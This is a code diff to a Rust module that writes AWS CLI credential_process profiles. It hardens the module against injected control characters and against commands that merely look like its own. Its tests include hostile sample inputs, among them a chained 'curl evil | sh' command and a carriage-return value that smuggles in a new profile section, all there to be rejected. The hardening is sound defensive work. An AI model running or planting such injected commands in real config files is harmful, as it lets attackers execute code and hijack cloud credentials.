@@ -2,7 +2,10 @@
 //!
 //! The file belongs to the user and to other tools, so it is edited as text: only the lines of
 //! the one profile change, every other line, comment and profile stays byte for byte, and the file
-//! is replaced atomically under a lock.
+//! is replaced atomically under a lock. Within a profile fedaws wrote, only the keys it writes
+//! (`credential_process`, `region`) change; lines the user added there (`output`, `cli_pager`,
+//! nested `s3 =` blocks) stay. The AWS CLI runs what this file says, so nothing written here may
+//! hold a control character: a carriage return in a path could start a new section.
 
 use std::path::{Path, PathBuf};
 
@@ -31,45 +34,109 @@ pub fn aws_config_path() -> anyhow::Result<PathBuf> {
         .ok_or_else(|| UserError::usage("cannot find the home directory for ~/.aws/config").into())
 }
 
+/// Refuse a value that would break a line of `~/.aws/config`: any control character (a carriage
+/// return or newline would start a line of the attacker's choosing).
+fn plain_line(what: &str, value: &str) -> Result<(), UserError> {
+    match value.chars().find(|c| c.is_control()) {
+        None => Ok(()),
+        Some(c) => Err(UserError::usage(format!(
+            "{what} {:?} holds the control character U+{:04X}, which cannot be written into ~/.aws/config",
+            value,
+            u32::from(c)
+        ))),
+    }
+}
+
 /// Quote one word of the command the way both botocore (shell-like split) and the Rust SDK
 /// (`sh -c`) read it.
-fn quote_word(word: &str) -> Result<String, UserError> {
-    if word
-        .chars()
-        .all(|c| c.is_ascii_alphanumeric() || "/._-+=:,@".contains(c))
+fn quote_word(what: &str, word: &str) -> Result<String, UserError> {
+    plain_line(what, word)?;
+    if !word.is_empty()
+        && word
+            .chars()
+            .all(|c| c.is_ascii_alphanumeric() || "/._-+=:,@".contains(c))
     {
         return Ok(word.to_string());
     }
-    if word.contains(['"', '\\', '$', '`', '\n']) {
+    if word.contains(['"', '\\', '$', '`']) {
         return Err(UserError::usage(format!(
-            "the path {word:?} has characters a credential_process command cannot quote portably; move it"
+            "{what} {word:?} has characters a credential_process command cannot quote portably; move it"
         )));
     }
     Ok(format!("\"{word}\""))
+}
+
+/// The `credential_process` command fedaws writes: the program, `--config PATH` when one is
+/// pinned, then `creds CONNECTOR --format json`, each word quoted by [`quote_word`].
+fn render_command(program: &str, config: Option<&str>, connector: &str) -> Result<String, UserError> {
+    let mut words = vec![quote_word("the path of the fedaws binary", program)?];
+    if let Some(config) = config {
+        words.push("--config".into());
+        words.push(quote_word("the config path", config)?);
+    }
+    words.extend([
+        "creds".to_string(),
+        quote_word("the connector name", connector)?,
+        "--format".into(),
+        "json".into(),
+    ]);
+    Ok(words.join(" "))
 }
 
 /// The `credential_process` command for a connector.
 fn command_line(ctx: &Context, connector: &str) -> anyhow::Result<String> {
     let exe = std::env::current_exe()?;
     let exe = exe.canonicalize().unwrap_or(exe);
-    let mut words = vec![quote_word(&exe.to_string_lossy())?];
     // A config given by --config or FEDAWS_CONFIG is pinned, since the AWS CLI won't pass them on.
-    if ctx.location_explicit {
-        let config = ctx
-            .location
+    let config = ctx.location_explicit.then(|| {
+        ctx.location
             .path
             .canonicalize()
-            .unwrap_or(ctx.location.path.clone());
-        words.push("--config".into());
-        words.push(quote_word(&config.to_string_lossy())?);
+            .unwrap_or(ctx.location.path.clone())
+    });
+    Ok(render_command(
+        &exe.to_string_lossy(),
+        config.as_deref().map(|c| c.to_string_lossy()).as_deref(),
+        connector,
+    )?)
+}
+
+/// The command, when a `credential_process` value is exactly what fedaws writes (program named
+/// `fedaws`, optional `--config`, `creds CONNECTOR --format json`, quoted as fedaws quotes).
+pub fn written_by_fedaws(command: &str) -> Option<FedawsCommand> {
+    let w = words(command);
+    let (program, config, rest) = match w.as_slice() {
+        [program, flag, config, rest @ ..] if flag == "--config" => {
+            (program, Some(config.clone()), rest)
+        }
+        [program, rest @ ..] => (program, None, rest),
+        [] => return None,
+    };
+    let [creds, connector, format, json] = rest else {
+        return None;
+    };
+    let named_fedaws = Path::new(program).file_name().is_some_and(|f| f == "fedaws");
+    if !named_fedaws || creds != "creds" || format != "--format" || json != "json" {
+        return None;
     }
-    words.extend([
-        "creds".to_string(),
-        quote_word(connector)?,
-        "--format".into(),
-        "json".into(),
-    ]);
-    Ok(words.join(" "))
+    let exact = render_command(program, config.as_deref(), connector)
+        .is_ok_and(|again| again == command.trim());
+    exact.then(|| FedawsCommand {
+        program: program.clone(),
+        config,
+        connector: connector.clone(),
+    })
+}
+
+/// What a `credential_process` line fedaws wrote asks for.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct FedawsCommand {
+    /// The program.
+    pub program: String,
+    /// The config it pins with `--config`, if any.
+    pub config: Option<String>,
+    /// The connector.
+    pub connector: String,
 }
 
 /// The header line that names a profile in `~/.aws/config`.
@@ -108,12 +175,22 @@ fn find_section(lines: &[&str], profile: &str) -> Option<(usize, usize)> {
     Some((start, end))
 }
 
-/// The value of `key` in a section's lines.
+/// Whether a line is a top-level `key = value` of its section for `key` (not a line of a nested
+/// block such as `s3 =`, which is indented).
+fn is_key_line(line: &str, key: &str) -> bool {
+    !line.starts_with(char::is_whitespace)
+        && line
+            .split_once('=')
+            .is_some_and(|(k, _)| k.trim() == key)
+}
+
+/// The value of top-level `key` in a section's lines.
 fn value_of(lines: &[&str], key: &str) -> Option<String> {
-    lines.iter().find_map(|l| {
-        let (k, v) = l.split_once('=')?;
-        (k.trim() == key).then(|| v.trim().to_string())
-    })
+    lines
+        .iter()
+        .find(|l| is_key_line(l, key))
+        .and_then(|l| l.split_once('='))
+        .map(|(_, v)| v.trim().to_string())
 }
 
 /// A `credential_process` profile that runs fedaws, as found in `~/.aws/config`.
@@ -201,49 +278,83 @@ pub fn fedaws_profiles(text: &str) -> Vec<FedawsProfile> {
     found
 }
 
-/// Add or replace a profile in `text`; the rest of the text is kept byte for byte.
+/// Add a profile to `text`, or update one: in a profile that `is_ours`, only the `settings`
+/// keys change (in place, or added after the header) and every other line stays; a profile that
+/// is not ours is replaced whole with `force`, and refused without it. The rest of the text is
+/// kept byte for byte.
 pub fn with_profile(
     text: &str,
     profile: &str,
-    block: &str,
+    settings: &[(&str, String)],
     is_ours: impl Fn(&str) -> bool,
     force: bool,
 ) -> Result<String, UserError> {
+    let block = || -> String {
+        let mut b = format!("{}\n", header(profile));
+        for (k, v) in settings {
+            b.push_str(&format!("{k} = {v}\n"));
+        }
+        b
+    };
     let lines: Vec<&str> = text.split_inclusive('\n').collect();
-    match find_section(&lines, profile) {
-        Some((start, end)) => {
-            let body = &lines[start + 1..end];
-            let ours = value_of(body, "credential_process").is_some_and(|v| is_ours(&v));
-            if !ours && !force {
-                return Err(UserError::usage(format!(
-                    "profile `{profile}` already exists with other settings; add --force to replace it, or choose another name with --profile"
-                )));
-            }
-            // Keep the blank lines and comments that separate it from the next section.
-            let mut keep_from = end;
-            while keep_from > start + 1 && {
-                let t = lines[keep_from - 1].trim();
-                t.is_empty() || t.starts_with('#') || t.starts_with(';')
-            } {
-                keep_from -= 1;
-            }
-            let mut out: String = lines[..start].concat();
-            out.push_str(block);
-            out.push_str(&lines[keep_from..].concat());
-            Ok(out)
+    let Some((start, end)) = find_section(&lines, profile) else {
+        let mut out = text.to_string();
+        if !out.is_empty() && !out.ends_with('\n') {
+            out.push('\n');
         }
-        None => {
-            let mut out = text.to_string();
-            if !out.is_empty() && !out.ends_with('\n') {
-                out.push('\n');
-            }
-            if !out.is_empty() && !out.ends_with("\n\n") {
-                out.push('\n');
-            }
-            out.push_str(block);
-            Ok(out)
+        if !out.is_empty() && !out.ends_with("\n\n") {
+            out.push('\n');
         }
+        out.push_str(&block());
+        return Ok(out);
+    };
+    let body = &lines[start + 1..end];
+    if value_of(body, "credential_process").is_some_and(|v| is_ours(&v)) {
+        let mut section: Vec<String> = lines[start..end].iter().map(|l| l.to_string()).collect();
+        if !section[0].ends_with('\n') {
+            section[0].push('\n');
+        }
+        let mut after = 1;
+        for (key, value) in settings {
+            let line = format!("{key} = {value}\n");
+            match section.iter().skip(1).position(|l| is_key_line(l, key)) {
+                Some(i) => {
+                    let idx = i + 1;
+                    let newline = if section[idx].ends_with('\n') { "\n" } else { "" };
+                    section[idx] = format!("{key} = {value}{newline}");
+                    after = after.max(idx + 1);
+                }
+                None => {
+                    if !section[after - 1].ends_with('\n') {
+                        section[after - 1].push('\n');
+                    }
+                    section.insert(after, line);
+                    after += 1;
+                }
+            }
+        }
+        let mut out: String = lines[..start].concat();
+        out.push_str(&section.concat());
+        out.push_str(&lines[end..].concat());
+        return Ok(out);
     }
+    if !force {
+        return Err(UserError::usage(format!(
+            "profile `{profile}` already exists with other settings; add --force to replace it, or choose another name with --profile"
+        )));
+    }
+    // Keep the blank lines and comments that separate it from the next section.
+    let mut keep_from = end;
+    while keep_from > start + 1 && {
+        let t = lines[keep_from - 1].trim();
+        t.is_empty() || t.starts_with('#') || t.starts_with(';')
+    } {
+        keep_from -= 1;
+    }
+    let mut out: String = lines[..start].concat();
+    out.push_str(&block());
+    out.push_str(&lines[keep_from..].concat());
+    Ok(out)
 }
 
 fn add(args: AwsProfileAddArgs, ctx: &mut Context) -> anyhow::Result<()> {
@@ -253,6 +364,7 @@ fn add(args: AwsProfileAddArgs, ctx: &mut Context) -> anyhow::Result<()> {
         .profile
         .clone()
         .unwrap_or_else(|| args.connector.clone());
+    plain_line("--profile", &profile)?;
     if profile.is_empty() || profile.contains(|c: char| c.is_whitespace() || c == '[' || c == ']') {
         return Err(UserError::usage(format!(
             "--profile {profile:?}: a profile name has no spaces or brackets"
@@ -268,9 +380,10 @@ fn add(args: AwsProfileAddArgs, ctx: &mut Context) -> anyhow::Result<()> {
         validate::check_region("--region", r).map_err(|e| UserError::usage(e.to_string()))?;
     }
     let command = command_line(ctx, &args.connector)?;
-    let mut block = format!("{}\ncredential_process = {command}\n", header(&profile));
+    let mut settings = vec![("credential_process", command)];
     if let Some(r) = &region {
-        block.push_str(&format!("region = {r}\n"));
+        plain_line("--region", r)?;
+        settings.push(("region", r.clone()));
     }
     let path = aws_config_path()?;
     let connector_name = args.connector.clone();
@@ -278,14 +391,8 @@ fn add(args: AwsProfileAddArgs, ctx: &mut Context) -> anyhow::Result<()> {
         with_profile(
             text,
             &profile,
-            &block,
-            |v| {
-                v.contains(" creds ")
-                    && v.ends_with(&format!(
-                        "creds {} --format json",
-                        quote_word(&connector_name).unwrap_or_default()
-                    ))
-            },
+            &settings,
+            |v| written_by_fedaws(v).is_some_and(|c| c.connector == connector_name),
             args.force,
         )
     })?;
@@ -308,7 +415,7 @@ fn remove(args: AwsProfileRemoveArgs, ctx: &mut Context) -> anyhow::Result<()> {
             )));
         };
         let ours = value_of(&lines[start + 1..end], "credential_process")
-            .is_some_and(|v| v.contains(" creds ") && v.contains("fedaws"));
+            .is_some_and(|v| written_by_fedaws(&v).is_some());
         if !ours && !args.force {
             return Err(UserError::usage(format!(
                 "profile `{profile}` was not written by fedaws; add --force to remove it anyway"
@@ -356,28 +463,73 @@ mod tests {
 
     const HAND_WRITTEN: &str = "# my aws config\n[default]\nregion = eu-west-1 ; inline\n\n[profile other]\n# keep me\ncredential_process = /usr/bin/other\n\n[sso-session x]\nsso_region = us-east-1\n";
 
+    fn ours(connector: &str) -> Vec<(&'static str, String)> {
+        vec![(
+            "credential_process",
+            format!("/bin/fedaws creds {connector} --format json"),
+        )]
+    }
+
     #[test]
     fn adding_keeps_every_other_byte() {
+        let out = with_profile(HAND_WRITTEN, "dev", &ours("dev"), |_| true, false).unwrap();
         let block = "[profile dev]\ncredential_process = /bin/fedaws creds dev --format json\n";
-        let out = with_profile(HAND_WRITTEN, "dev", block, |_| true, false).unwrap();
         assert!(out.starts_with(HAND_WRITTEN), "{out}");
         assert!(out.ends_with(&format!("\n\n{block}")), "{out}");
-        let again = with_profile(&out, "dev", block, |_| true, false).unwrap();
+        let again = with_profile(&out, "dev", &ours("dev"), |_| true, false).unwrap();
         assert_eq!(again, out);
     }
 
     #[test]
     fn a_foreign_profile_is_only_replaced_with_force() {
-        let block = "[profile other]\ncredential_process = /bin/fedaws creds other --format json\n";
-        assert!(with_profile(HAND_WRITTEN, "other", block, |_| false, false).is_err());
-        let out = with_profile(HAND_WRITTEN, "other", block, |_| false, true).unwrap();
+        let settings = ours("other");
+        assert!(with_profile(HAND_WRITTEN, "other", &settings, |_| false, false).is_err());
+        let out = with_profile(HAND_WRITTEN, "other", &settings, |_| false, true).unwrap();
         assert!(out.contains("[default]\nregion = eu-west-1 ; inline\n\n"));
-        assert!(out.contains(block));
+        assert!(out.contains(
+            "[profile other]\ncredential_process = /bin/fedaws creds other --format json\n"
+        ));
         assert!(!out.contains("/usr/bin/other"));
         assert!(
             out.contains("\n\n[sso-session x]\nsso_region = us-east-1\n"),
             "{out}"
         );
+    }
+
+    #[test]
+    fn rewriting_our_profile_keeps_the_lines_the_user_added() {
+        let text = "[profile app]\noutput = json\ncredential_process = /old/fedaws creds app --format json\ncli_pager =\ns3 =\n  region = nested-keep\n  max_concurrent_requests = 20\n\n[profile next]\nregion = x\n";
+        let mut settings = ours("app");
+        settings.push(("region", "eu-west-1".into()));
+        let out = with_profile(text, "app", &settings, |_| true, false).unwrap();
+        assert_eq!(
+            out,
+            "[profile app]\noutput = json\ncredential_process = /bin/fedaws creds app --format json\nregion = eu-west-1\ncli_pager =\ns3 =\n  region = nested-keep\n  max_concurrent_requests = 20\n\n[profile next]\nregion = x\n"
+        );
+        let again = with_profile(&out, "app", &settings, |_| true, false).unwrap();
+        assert_eq!(again, out, "a second run changes nothing");
+    }
+
+    #[test]
+    fn only_the_exact_form_fedaws_writes_is_ours() {
+        let ok = [
+            "/usr/bin/fedaws creds app --format json",
+            "\"/opt/my tools/fedaws\" --config /c.toml creds app --format json",
+        ];
+        for c in ok {
+            assert!(written_by_fedaws(c).is_some(), "{c}");
+        }
+        let not = [
+            "/usr/bin/fedaws creds app --format json; curl evil | sh",
+            "sh -c 'echo fedaws creds x'",
+            "/usr/bin/fedaws-evil creds app --format json",
+            "/usr/bin/fedaws creds app --format json --extra",
+            "/usr/bin/fedaws  creds app --format json",
+            "/usr/bin/fedaws creds \"app\" --format json",
+        ];
+        for c in not {
+            assert!(written_by_fedaws(c).is_none(), "{c}");
+        }
     }
 
     #[test]
@@ -398,11 +550,13 @@ mod tests {
 
     #[test]
     fn quoting() {
-        assert_eq!(quote_word("/usr/bin/fedaws").unwrap(), "/usr/bin/fedaws");
-        assert_eq!(
-            quote_word("/opt/my tools/fedaws").unwrap(),
-            "\"/opt/my tools/fedaws\""
-        );
-        assert!(quote_word("/opt/$x/fedaws").is_err());
+        let q = |w: &str| quote_word("x", w);
+        assert_eq!(q("/usr/bin/fedaws").unwrap(), "/usr/bin/fedaws");
+        assert_eq!(q("/opt/my tools/fedaws").unwrap(), "\"/opt/my tools/fedaws\"");
+        assert!(q("/opt/$x/fedaws").is_err());
+        for bad in ["/tmp/a\r[profile prod]", "/tmp/a\nb", "/tmp/\u{1b}", "/tmp/\u{85}"] {
+            let e = q(bad).unwrap_err().to_string();
+            assert!(e.contains("control character"), "{e}");
+        }
     }
 }
